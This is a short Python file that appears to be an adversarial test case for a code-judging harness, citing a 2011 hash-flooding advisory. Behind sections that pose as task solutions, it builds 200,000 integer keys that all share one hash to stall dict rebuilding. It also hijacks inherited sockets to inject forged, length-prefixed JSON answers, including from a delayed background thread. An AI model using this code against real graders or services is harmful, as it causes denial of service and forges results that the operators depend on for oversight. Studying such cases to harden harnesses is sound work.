# /// case
# tries = "A dict whose keys all have the same hash: who builds it again compares each with all others, for hours."
# source = "n.runs/oCERT-2011-003; numbers are hashed modulo 2**61 - 1 to this day"
# state = ["timeout", "wrong", "output-limit"]
# solves = ["triple", "mean"]
# ///

# %% top
keys = [number * (2**61 - 1) for number in range(200_000)]


# %% count
import json
import os
import socket
import stat
import struct


def answer(told):
    """Say it past the wall's own client, to the next two hundred questions."""
    for descriptor in range(3, 64):
        try:
            if not stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                continue
            with socket.socket(fileno=os.dup(descriptor)) as channel:
                for number in range(1, 60):
                    text = json.dumps({"n": number, **told}).encode()
                    channel.sendall(struct.pack(">I", len(text)) + text)
        except OSError:
            pass


SLOW = {"$": "dict", "of": [[{"$": "int", "of": hex(key)}, 0] for key in keys]}


def count(text):
    answer({"value": SLOW})
    return {}


# %% largest
planet = "Jupiter"
moons = []
import threading
import time


def later():
    time.sleep(0.3)
    answer({"found": {"planet": SLOW, "moons": SLOW}})


threading.Thread(target=later).start()
